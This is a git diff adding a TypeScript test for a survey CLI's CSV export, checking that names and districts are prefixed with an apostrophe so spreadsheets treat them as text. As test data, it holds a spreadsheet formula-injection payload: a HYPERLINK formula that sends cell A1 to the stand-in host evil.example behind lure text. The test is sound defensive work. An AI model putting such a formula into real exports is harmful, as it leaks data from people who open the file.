@@ -8,6 +8,8 @@ import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { startApp, TEST_SECRET, TestApp } from './support/app';
+import { parse } from 'csv-parse/sync';
+import { creditCode } from './support/fixtures';
 import { expectProblem } from './support/problem';
 import { assertBuilt, serverEnv } from './support/server-process';
 import { openCampaign, registered } from './support/survey';
@@ -69,5 +71,19 @@ describeOnEmbeddedStores('survey invite (built CLI)', () => {
     await withApp(async (t) => {
       expectProblem(await t.http().get('/v1/campaigns/c1/evaluations').set({ authorization: `Bearer ${token}` }), 401, /invitation revoked/);
     });
+  });
+
+  it('writes a name or a district that a spreadsheet would run as text (an apostrophe first)', async () => {
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"点此领取")';
+    await withApp(async (t) => {
+      await registered(t, 3, { name, district: '-泉山区' });
+    });
+    const run = survey('invite', 'c1', '--district=-泉山区');
+    expect(run.code).toBe(0);
+    const row = run.stdout.split('\r\n')[1];
+    expect(row).toMatch(new RegExp(`^${creditCode(3)},"'=HYPERLINK\\(""http://evil\\.example/\\?x=""&A1,""点此领取""\\)",'-泉山区,https://`));
+    // The same text read back by a CSV parser is the name with an apostrophe before it, nothing else.
+    const [cells] = parse(run.stdout.split('\r\n')[1]) as string[][];
+    expect(cells.slice(0, 3)).toEqual([creditCode(3), `'${name}`, "'-泉山区"]);
   });
 });
